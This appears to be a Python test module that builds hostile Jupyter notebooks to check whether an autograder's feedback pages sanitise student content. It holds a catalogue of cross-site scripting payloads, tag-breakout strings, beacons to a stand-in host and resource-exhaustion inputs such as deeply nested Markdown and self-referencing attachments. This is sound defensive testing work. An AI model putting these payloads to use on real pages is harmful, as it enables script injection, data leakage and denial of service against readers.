# ruff: noqa: E501  (one line an attack step reads better than a wrapped one)
"""Attacks on whoever reads feedback and autograded notebooks: script in every corner of a page."""

from __future__ import annotations

from .attack import Attack, by_id

JS = "window.hostile='@RUN@'"
PAYLOADS = {
    "script": f"<script>{JS}</script>",
    "img-onerror": f"<img src=x onerror=\"{JS}\">",
    "svg-onload": f"<svg onload=\"{JS}\"><script>{JS}</script><a xlink:href='javascript:{JS}'>x</a></svg>",
    "javascript-link": f"<a href=\"javascript:{JS}\">x</a><a href='java&#x0A;script:{JS}'>y</a>",
    "iframe": f"<iframe srcdoc=\"<script>{JS}</script>\"></iframe><object data='data:text/html,@RUN@'></object><embed src='javascript:{JS}'>",
    "form-and-meta": "<form action='http://hostile.example/@RUN@'><input autofocus onfocus=1><button>x</button></form>"
                     "<meta http-equiv=refresh content='0;url=http://hostile.example/@RUN@'><base href='http://hostile.example/@RUN@/'>",
    "style-beacon": "<style>body{background:url(http://hostile.example/@RUN@)} @import 'http://hostile.example/@RUN@';</style>"
                    "<link rel=stylesheet href='http://hostile.example/@RUN@.css'><div style='position:fixed;inset:0;background:url(http://hostile.example/@RUN@)'>x</div>",
    "image-beacon": "<img src='http://hostile.example/@RUN@.png'><video poster='//hostile.example/@RUN@'></video>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=1 data-r=@RUN@>'></noscript>"
                "<math><mtext><table><mglyph><style><img src=x onerror=\"" + JS + "\">",
    "template": f"<template><script>{JS}</script></template><xmp></xmp><script>{JS}</script><!--><script>{JS}</script>-->",
}  # fmt: skip
HTML_CELL = "from IPython.display import display, HTML\ndisplay(HTML('''{}'''))"

BREAKOUT = '</pre></div></script></textarea></style></title>--><script>' + JS + "</script>"


def page(name: str, **what) -> Attack:  # type: ignore[no-untyped-def]
    """An attack on the reader of a page."""
    return Attack(name, "script in feedback", **{"stops": ("sanitiser",), **what})


def mime(kind: str, content: str) -> str:
    """A cell that displays one MIME type."""
    return (
        "from IPython.display import display\n"
        f"display({{{kind!r}: {content!r}}}, raw=True)"
    )


def markdown_cell(nb, text):  # type: ignore[no-untyped-def]
    """Put text into a cell of the student's own and into the essay."""
    nb["cells"].append({"cell_type": "markdown", "id": "own-text", "metadata": {}, "source": text})
    by_id(nb, "essay")["source"] = text


def raw_cell(nb):  # type: ignore[no-untyped-def]
    """Raw cells that say they are HTML."""
    for kind in ("text/html", "text/latex", "slides"):
        nb["cells"].append({"cell_type": "raw", "id": "raw-" + kind[-4:], "source": BREAKOUT,
                            "metadata": {"raw_mimetype": kind, "format": kind}})  # fmt: skip


def attached(nb):  # type: ignore[no-untyped-def]
    """Attachments with HTML where an image should be."""
    nb["cells"].append({
        "cell_type": "markdown", "id": "attached", "metadata": {},
        "source": "![x](attachment:x.svg) ![y](attachment:y.png)",
        "attachments": {"x.svg": {"image/svg+xml": "\"><script>" + JS + "</script>"},
                        "y.png": {"image/png": "\" onerror=\"" + JS + "\" x=\""}},
    })  # fmt: skip


def laughing(nb):  # type: ignore[no-untyped-def]
    """Attachments that contain each other's names: each replacement makes more to replace."""
    essay = by_id(nb, "essay")
    essay["source"] = "![x](attachment:a)"
    essay["attachments"] = {
        chr(97 + n): {"image/png": f"attachment:{chr(98 + n)} " * 100} for n in range(10)
    }


def big_picture_often(nb):  # type: ignore[no-untyped-def]
    """One pasted picture, shown a thousand times."""
    essay = by_id(nb, "essay")
    essay["source"] = "![x](attachment:a)\n" * 1_000
    essay["attachments"] = {"a": {"image/png": "AAAA" * 50_000}}


def own_code(source):  # type: ignore[no-untyped-def]
    """A code cell of the student's own, which has to be shown whatever it is."""
    def edit(nb):  # type: ignore[no-untyped-def]
        nb["cells"].append({"cell_type": "code", "id": "own-code", "metadata": {}, "outputs": [],
                            "execution_count": None, "source": source})  # fmt: skip
    return edit


def titled(nb):  # type: ignore[no-untyped-def]
    """Titles, authors, languages and tags that end up in a page's head."""
    nb["metadata"].update(
        title=BREAKOUT, authors=[{"name": BREAKOUT}],
        language_info={"name": BREAKOUT, "pygments_lexer": BREAKOUT, "version": BREAKOUT},
        widgets={"application/vnd.jupyter.widget-state+json": {
            "version_major": 2, "version_minor": 0, "state": {"x": {"model_name": BREAKOUT}}}},
    )  # fmt: skip
    for cell in nb["cells"]:
        cell["metadata"]["tags"] = [BREAKOUT]
        cell["metadata"]["name"] = BREAKOUT


ATTACKS = [
    page(f"output-html-{name}", last=HTML_CELL.format(payload.replace("'", "\\'")))
    for name, payload in PAYLOADS.items()
]
DEEP = {
    "quotes": ">" * 30_000 + " x",
    "lists": "".join(" " * n + "- x\n" for n in range(600)),
    "brackets": "[" * 20_000 + "](" * 20_000,
    "stars": "*a **b " * 8_000,
    "backticks": "`" * 20_000 + " " + "`" * 19_999,
    "html": "<div>" * 60_000,
    "tables": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "|b" * 5_000 + "|",
    "references": "".join(f"[{n}]: x\n" for n in range(5_000)) + "[a][b]" * 5_000,
    "math": "$$" + "{" * 20_000,
    "entities": "&" * 60_000 + "&#x110000;" * 2_000,
}
ATTACKS += [
    page(f"markdown-deep-{name}", edit=lambda nb, content=content: markdown_cell(nb, content),
         stops=("reader",), slow=True)
    for name, content in DEEP.items()
]
LIVE = f"[x](javascript:{JS}) ![y](http://hostile.example/@RUN@.png)"
TWICE = {  # what a second reader of Markdown finds in the first one's HTML
    "fence": f"```text\na\n\n{LIVE}\n```\n\n~~~nosuch\nb\n\n{LIVE}\n~~~",
    "references": f"```text\n\n[a]: javascript:{JS}\n\n[a]\n```\n\n[a]: javascript:{JS}\n\n[a]",
    "autolink": f"```text\n\n<javascript:{JS}>\n\n```",
    "comment": f"<!-- a\n\n{LIVE}\n\n--> <!-->{LIVE}",
    "line-ends": "```text\n" + "".join(sign * 2 + LIVE for sign in "\r\v\f\x1c\x85\u2028") + "\n```",
    "entities": f"```text\n&#10;&#10;{LIVE}\n```\n&#10;&#10;{LIVE}",
    "formula": f"```text\n$$\n\n{LIVE}\n$$\n```\n$\\mmlToken{{mi}}[href='javascript:{JS}']{{x}}$",
}
ATTACKS += [
    page(f"markdown-twice-{name}", edit=lambda nb, content=content: markdown_cell(nb, content))
    for name, content in TWICE.items()
]
TREE = "<div>" + "".join(f"<b title={n}>" for n in range(6_000)) + "</div>" + "<div>x</div>" * 6_000
BLOWN = {  # little to send, much to parse
    "tree": TREE,
    "blanks": "x" + " " * 490_000 + "y",
    "environments": "\\begin{a}" * 50_000,
    "underlined": "a\n-\n" * 100_000,
}
ATTACKS += [
    page(f"markdown-blown-{name}", edit=lambda nb, content=content: markdown_cell(nb, content),
         stops=("reader",))
    for name, content in BLOWN.items()
]
ATTACKS += [
    page(f"source-blown-{name}", edit=own_code(content), stops=("reader",))
    for name, content in {"blanks": "x = 1" + "\n " * 50_000 + "y",
                          "names": "'" + "\\N{" * 10_000,
                          "sum": "1+" * 20_000 + "("}.items()
]
ATTACKS += [
    page("attachment-laughs", edit=laughing, stops=("reader",)),
    page("attachment-a-thousand-times", edit=big_picture_often, stops=("reader",)),
]
SHOW = "from IPython.display import display, HTML, publish_display_data as p\n"
ATTACKS += [
    page("output-html-tree", stops=("reader",), last=SHOW
         + "display(HTML('<div>' + ''.join(f'<b title={n}>' for n in range(6_000)) + '</div>' + '<div>x</div>' * 6_000))"),
    page("output-html-deep", slow=True, stops=("reader",),
         last=SHOW + "display(HTML('<div>' * 150_000))\ndisplay(HTML('<b><table>' * 30_000))"),
    page("output-ansi-deep", slow=True, stops=("reader",),
         last=r"print('\x1b[31m\x1b[1m' * 60_000); print('\x1b[38;5;' * 20_000); print('\x1b[' + ';1' * 60_000 + 'm')"),
    page("output-surrogates", last=SHOW + r"print('\ud800 \udfff'); display(HTML('\ud800')); raise ValueError('\udc80')"),
    page("output-not-finite", last=SHOW + "p({'application/json': float('nan'), 'text/plain': 'x'}, metadata={'a': float('inf')})"),
    page("output-wrong-types", last=SHOW + """\
for bad in (5, None, [1], {'a': 1}, b'x', object()):
    for kind in ('text/plain', 'text/html', 'image/png', 'text/markdown', 'x'):
        try: p({kind: bad}, metadata={kind: bad})
        except Exception: pass
try: get_ipython().display_pub.publish({5: 6, None: 7, 'text/plain': 8}, {1: 2})
except Exception: pass"""),
    page("source-hard-to-colour", slow=True, stops=("reader",),
         code="x = " + "(" * 150 + "1" + ")" * 150 + "\n# " + "a" * 300_000 + "\ny = '" + "\\\\" * 80_000 + "'"),
    page("source-unclosed-strings", slow=True, stops=("reader",), last='"""' + "'''\\\n\"" * 30_000),
]
ATTACKS += [
    page("output-javascript", last=mime("application/javascript", JS)),
    page("output-svg", last=mime("image/svg+xml", PAYLOADS["svg-onload"])),
    page("output-png-broken", last=mime("image/png", f'AAAA" onerror="{JS}" x="')),
    page("output-jpeg-dict", last=mime("image/jpeg", f"'><script>{JS}</script>")),
    page("output-pdf", last=mime("application/pdf", f"'><script>{JS}</script>")),
    page("output-latex", last=mime("text/latex", r"$\href{javascript:" + JS + "}{x}$" + BREAKOUT)),
    page("output-markdown", last=mime("text/markdown", f"[x](javascript:{JS}) " + BREAKOUT)),
    page("output-widget", last=mime("application/vnd.jupyter.widget-view+json", BREAKOUT)),
    page("output-vega-and-json", last=mime("application/json", BREAKOUT) + "\n"
         + mime("application/vnd.vegalite.v5+json", BREAKOUT)),
    page("output-metadata", last="from IPython.display import publish_display_data as p\n"
         f"p({{'image/png': 'AAAA', 'text/plain': 'x'}}, metadata={{'image/png': {{'width': {BREAKOUT!r}, "
         f"'alt': {BREAKOUT!r}, 'height': '1 onerror=x'}}, 'isolated': True}})"),
    page("output-isolated-html", last="from IPython.display import publish_display_data as p\n"
         f"p({{'text/html': {PAYLOADS['script']!r}}}, metadata={{'text/html': {{'isolated': True}}}})"),
    page("output-ansi", last="print('\\x1b[31m" + BREAKOUT + "\\x1b]8;;javascript:" + JS
         + "\\x07x\\x1b]8;;\\x07')"),
    page("output-stderr", last=f"import sys\nprint({BREAKOUT!r}, file=sys.stderr)"),
    page("error-text", last=f"raise ValueError({BREAKOUT!r})"),
    page("error-name", last=f"raise type({BREAKOUT!r}, (Exception,), {{}})({BREAKOUT!r})"),
    page("error-in-call", answers={"q2-share": f"def share(counts):\n    raise KeyError({BREAKOUT!r})",
                                   "q6-grade": f"def grade(score):\n    return {BREAKOUT!r}"}),
    page("value-in-message", answers={"q1-total": f"total = {BREAKOUT!r}"}),
    page("source-breakout", code=f"x = {BREAKOUT!r}  # {BREAKOUT}"),
    page("markdown-breakout", edit=lambda nb: markdown_cell(nb, BREAKOUT)),
    page("markdown-links", edit=lambda nb: markdown_cell(
        nb, f"[x](javascript:{JS}) <javascript:{JS}> ![y](http://hostile.example/@RUN@.png)\n\n"
        f"[z]: data:text/html,<script>{JS}</script>\n\n[z]")),
    page("markdown-all-payloads", edit=lambda nb: markdown_cell(nb, "\n\n".join(PAYLOADS.values()))),
    page("markdown-math", edit=lambda nb: markdown_cell(
        nb, r"$$\href{javascript:" + JS + r"}{x} \style{background:url(http://hostile.example/@RUN@)}{y}$$"
        f"\n\n```{BREAKOUT}\nx\n```")),
    page("raw-html-cell", edit=raw_cell),
    page("attachment-html", edit=attached),
    page("page-head", edit=titled),
    page("repr-html-object", last=f"""\
class H:
    def _repr_html_(self): return {PAYLOADS['script']!r}
    def _repr_mimebundle_(self, **k): return {{"text/html": {PAYLOADS['img-onerror']!r}, "text/plain": 5,
        {BREAKOUT!r}: "x"}}
H()"""),
    page("table-with-html", last=f"pd.DataFrame({{{BREAKOUT!r}: [{PAYLOADS['script']!r}]}}).style"),
    page("table-unescaped", last=HTML_CELL.format("")
         + f"\ndisplay(HTML(pd.DataFrame({{'x': [{PAYLOADS['script']!r}]}}).to_html(escape=False)))"),
    page("figure-with-script-text", answers={
        "q4-figure": f"fig, ax = plt.subplots()\nax.set_title({BREAKOUT!r})\nax.set_gid({BREAKOUT!r})"}),
]  # fmt: skip
